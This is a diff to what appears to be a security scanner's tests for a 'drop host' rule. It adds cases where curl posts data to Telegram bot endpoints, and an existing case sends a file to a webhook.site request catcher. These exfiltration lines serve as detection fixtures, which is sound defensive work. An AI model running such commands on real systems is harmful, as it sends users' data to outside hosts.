@@ -3,6 +3,18 @@ import { dropHost, rawAddress, privateNetwork, metadataAddress } from './suspect
 
 ruleCases(dropHost, {
   hits: [
+    {
+      name: "a bot of the person's own, rated medium",
+      path: 'a.sh',
+      text: 'curl "https://api.telegram.org/bot$TELEGRAM_TOKEN/sendMessage" -d text=x\n',
+      severity: 'medium',
+    },
+    {
+      name: "somebody's bot",
+      path: 'a.sh',
+      text: 'curl "https://api.telegram.org/bot7123456:AAxyz/sendMessage" -d text=x\n',
+    },
+
     { name: 'a request catcher', path: 'a.sh', text: 'curl -d @a https://webhook.site/5f1c\n' },
     {
       name: 'a hook of a chat',
